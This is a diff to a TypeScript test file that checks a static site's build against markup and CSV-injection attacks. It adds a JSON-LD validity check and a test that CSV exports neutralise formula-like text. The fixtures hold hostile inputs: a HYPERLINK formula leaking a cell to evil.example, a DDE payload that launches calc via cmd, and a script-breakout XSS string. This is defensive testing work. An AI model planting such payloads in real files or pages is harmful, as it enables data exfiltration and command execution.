@@ -13,6 +13,7 @@ import { parse, type HTMLElement } from 'node-html-parser';
 import { afterAll, describe, expect, inject, it } from 'vitest';
 import { append, contentCopy, editFile, removeCopies, replace, script } from '../helpers/content-copy.ts';
 import { htmlFiles } from '../helpers/site-files.ts';
+import { csvRecords, parseCsv } from '../helpers/csv.ts';
 import { checkBody } from '../../scripts/check/mdx-body.ts';
 import { splitMdx } from '../../scripts/check/frontmatter.ts';
 
@@ -175,7 +176,18 @@ function unsafeParts(html: string): string[] {
   const visit = (el: HTMLElement) => {
     const tag = el.rawTagName?.toLowerCase();
     if (tag === 'iframe' || tag === 'object' || tag === 'embed') found.push(`<${tag}>`);
-    if (tag === 'script' && el.textContent.includes('alert(1)')) found.push('script with the payload');
+    if (tag === 'script') {
+      // A data block (JSON-LD) never runs, but must stay one: valid JSON, with no "<" that
+      // could close the element early.
+      if (el.getAttribute('type') === 'application/ld+json') {
+        if (el.textContent.includes('<')) found.push('JSON-LD with a raw "<"');
+        try {
+          JSON.parse(el.textContent);
+        } catch {
+          found.push('JSON-LD that is not JSON');
+        }
+      } else if (el.textContent.includes('alert(1)')) found.push('script with the payload');
+    }
     for (const [name, value] of Object.entries(el.attributes ?? {})) {
       if (/^on/i.test(name)) found.push(`${tag} ${name}`);
       if (name.toLowerCase() === 'style') found.push(`${tag} style="${value}"`);
@@ -284,5 +296,39 @@ describe('frontmatter that looks like markup', () => {
     for (const page of pages) expect(unsafeParts(readFileSync(join(out, page), 'utf8')), page).toEqual([]);
     const casePage = parseHtml(readFileSync(join(out, 'cases', 'beta-skills-recognition', 'index.html'), 'utf8'));
     expect(casePage.querySelector('h1')?.textContent).toContain('</script><script>alert(1)</script> Skills <b>bold</b>');
+  });
+});
+
+/**
+ * Class 6: text a spreadsheet would evaluate. In the CSV exports it is neutralised with a
+ * leading apostrophe (OWASP's advice for CSV injection); the JSON export keeps it raw.
+ */
+describe('formula-like text in the exports', () => {
+  it('is neutralised in every CSV cell and kept as written in JSON', async () => {
+    const title = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
+    const summary = '@SUM(1+1)*cmd|" /C calc"!A0 is a summary long enough to pass the rule.';
+    const shortName = '+AHC';
+    const root = contentCopy((content) => {
+      editFile(content, 'cases/beta-skills-recognition.mdx', replace('title: "Fixture: Recognising skills in Region Beta"', `title: ${JSON.stringify(title)}`));
+      editFile(content, 'cases/beta-skills-recognition.mdx', (t) => t.replace(/^summary: .*$/m, `summary: ${JSON.stringify(summary)}`));
+      editFile(content, 'organisations/alpha-health-coop.yaml', replace('shortName: AHC', `shortName: "${shortName}"`));
+    });
+    const out = join(root, 'dist');
+    const build = await script(['scripts/build.ts', '--out', out], join(root, 'content'));
+    expect(build.code, build.output).toBe(0);
+    const cases = csvRecords(readFileSync(join(out, 'data', 'cases.csv'), 'utf8'));
+    const row = cases.find((r) => r['id'] === 'beta-skills-recognition')!;
+    expect(row['title']).toBe(`'${title}`);
+    expect(row['summary']).toBe(`'${summary}`);
+    const organisations = csvRecords(readFileSync(join(out, 'data', 'organisations.csv'), 'utf8'));
+    expect(organisations.find((r) => r['id'] === 'alpha-health-coop')!['shortName']).toBe(`'${shortName}`);
+    // No cell anywhere starts with a character a spreadsheet reads as a formula.
+    for (const file of readdirSync(join(out, 'data')).filter((f) => f.endsWith('.csv'))) {
+      for (const cells of parseCsv(readFileSync(join(out, 'data', file), 'utf8'))) {
+        for (const cell of cells) expect(cell, `${file}: ${cell}`).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
+      }
+    }
+    const json = JSON.parse(readFileSync(join(out, 'data', 'cases.json'), 'utf8')) as { id: string; title: string }[];
+    expect(json.find((c) => c.id === 'beta-skills-recognition')!.title).toBe(title);
   });
 });
